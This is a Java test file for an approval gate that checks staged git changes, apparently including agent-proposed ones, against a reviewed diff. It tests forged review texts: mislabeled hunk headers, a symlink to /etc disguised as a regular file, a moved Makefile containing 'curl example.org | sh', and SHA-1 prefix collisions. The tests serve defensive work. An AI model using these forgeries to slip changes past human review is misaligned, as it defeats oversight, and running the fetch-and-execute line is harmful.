package dev.holdfast.cli;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.util.HashMap;
import java.util.HexFormat;
import java.util.Map;
import java.util.Objects;
import java.util.Random;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * A proposer hands in a text that reads like another change than the one it is about to make. It is approved, and the gate stops
 * what the proposer was after.
 */
class ForgedReviewTest extends OnASample {
    ForgedReviewTest(@TempDir Path data) {
        super(data);
    }

    @BeforeEach
    void repository() throws Exception {
        make("forged");
        sample.write("deploy.yml", Deployment.TEXT);
        sample.commit("deploy");
    }

    @Test
    void lines_of_one_block_under_the_heading_of_another() throws Exception {
        stage("deploy.yml", Deployment.without("production"));
        approveForged(" @@ environments:\n", " @@ staging:\n");
        assertThat(sample.assertStopped())
                .contains("lines 13-19 of deploy.yml, under a different heading than git prints");
    }

    @Test
    void numbers_of_another_block_on_the_new_side() throws Exception {
        stage("deploy.yml", Deployment.without("production"));
        approveForged("@@ -13,7 +13,7 @@", "@@ -13,7 +4,7 @@");
        sample.assertStopped();
    }

    @Test
    void a_diff_without_context() throws Exception {
        stage("deploy.yml", Deployment.without("staging"));
        sample.approve(sample.proposeDiff(sample.git("diff", "--cached", "-U0") + "\n"));
        sample.assertStopped();
        stage("deploy.yml", Deployment.without("production"));
        sample.assertStopped();
    }

    @Test
    void a_link_as_a_text() throws Exception {
        Path link = sample.folder.resolve("notes");
        Files.createSymbolicLink(link, Path.of("docs"));
        sample.commit("a link");
        Files.delete(link);
        Files.createSymbolicLink(link, Path.of("/etc"));
        sample.git("add", ".");
        approveForged(" 120000\n", " 100644\n");
        assertThat(sample.assertStopped()).contains("as another kind of file");
    }

    @Test
    void a_file_at_the_top_as_one_of_a_folder() throws Exception {
        stage("Makefile", "all:\n\tcurl example.org | sh\n");
        approveForged("a/Makefile b/Makefile", "docs/Makefile doc/Makefile", "+++ b/", "+++ doc/");
        sample.assertStopped();
    }

    @Test
    void a_renamed_file_whose_other_block_is_changed() throws Exception {
        sample.git("mv", "deploy.yml", "deployed.yml");
        stage("deployed.yml", Deployment.without("staging"));
        sample.approve(sample.proposeAsAgentsDo());
        sample.assertPasses();
        stage("deployed.yml", Deployment.without("production"));
        sample.assertStopped();
    }

    /** What git makes of bytes says where they are, but not what else is there. */
    @Test
    void bytes_of_a_file_in_which_they_mean_something_else() throws Exception {
        byte[] staging = bytes(1);
        byte[] production = bytes(2);
        System.arraycopy(staging, 1_900, production, 1_900, 200);
        sample.write("bytes", both(staging, production));
        sample.commit("bytes");
        String reviewed = changeByte(staging, production);
        sample.approve(sample.proposeDiff(reviewed));
        sample.assertPasses();

        sample.git("reset", "-q", "--hard");
        sample.write("bytes", both(production, staging));
        sample.commit("the other way round");
        String asked = changeByte(production, staging);
        assertThat(asked.replaceFirst("index .*", ""))
                .as("the patch alone does not tell")
                .isEqualTo(reviewed.replaceFirst("index .*", ""));
        assertThat(sample.assertStopped()).contains("has the same change to another version of bytes");
    }

    /** Two versions whose ids begin alike are found in no time. */
    @Test
    void a_version_whose_id_begins_like_that_of_another() throws Exception {
        String first = "environments:\n" + Deployment.STAGING + Deployment.PRODUCTION;
        String second = "environments:\n" + Deployment.PRODUCTION + Deployment.STAGING;
        Map<String, String> found = new HashMap<>();
        for (int nonce = 0; nonce < 40_000; nonce++) {
            String version = first + "# " + nonce + "\n";
            found.put(id(version).substring(0, 7), version);
        }
        int nonce = 0;
        while (!found.containsKey(id(second + "# " + nonce + "\n").substring(0, 7))) {
            nonce++;
        }
        second += "# " + nonce + "\n";
        first = Objects.requireNonNull(found.get(id(second).substring(0, 7)));

        stage("deploy.yml", first);
        sample.git("commit", "-q", "-m", "first");
        stage("deploy.yml", first.replaceFirst("required", "none"));
        sample.approve(sample.proposeAsAgentsDo());
        sample.assertPasses();
        sample.git("reset", "-q", "--hard");
        stage("deploy.yml", second);
        sample.git("commit", "-q", "-m", "second");
        stage("deploy.yml", second.replaceFirst("required", "none"));
        sample.assertStopped();
        sample.approve(sample.propose());
        sample.assertPasses();
    }

    private String changeByte(byte[] one, byte[] other) throws Exception {
        byte[] changed = one.clone();
        changed[2_000] = (byte) ~changed[2_000];
        sample.write("bytes", both(changed, other));
        sample.git("add", ".");
        return sample.git("diff", "--cached", "--binary") + "\n\n";
    }

    private static byte[] bytes(long seed) {
        byte[] bytes = new byte[4_000];
        new Random(seed).nextBytes(bytes);
        bytes[0] = 0;
        return bytes;
    }

    private static byte[] both(byte[] one, byte[] other) {
        byte[] both = new byte[one.length + other.length];
        System.arraycopy(one, 0, both, 0, one.length);
        System.arraycopy(other, 0, both, one.length, other.length);
        return both;
    }

    /** As git names contents. */
    private static String id(String text) throws Exception {
        byte[] content = text.getBytes(StandardCharsets.UTF_8);
        MessageDigest digest = MessageDigest.getInstance("SHA-1");
        digest.update(("blob " + content.length + "\0").getBytes(StandardCharsets.US_ASCII));
        return HexFormat.of().formatHex(digest.digest(content));
    }

    /** Proposes what is staged, with some of its text replaced, and has it approved. Unchanged it would pass. */
    private void approveForged(String... replaced) throws Exception {
        String diff = sample.git("diff", "--cached", "--binary") + "\n";
        String forged = diff;
        for (int at = 0; at < replaced.length; at += 2) {
            assertThat(forged).contains(replaced[at]);
            forged = forged.replace(replaced[at], replaced[at + 1]);
        }
        sample.approve(sample.proposeDiff(forged));
    }

    private void stage(String file, String text) throws Exception {
        sample.write(file, text);
        sample.git("add", ".");
    }
}
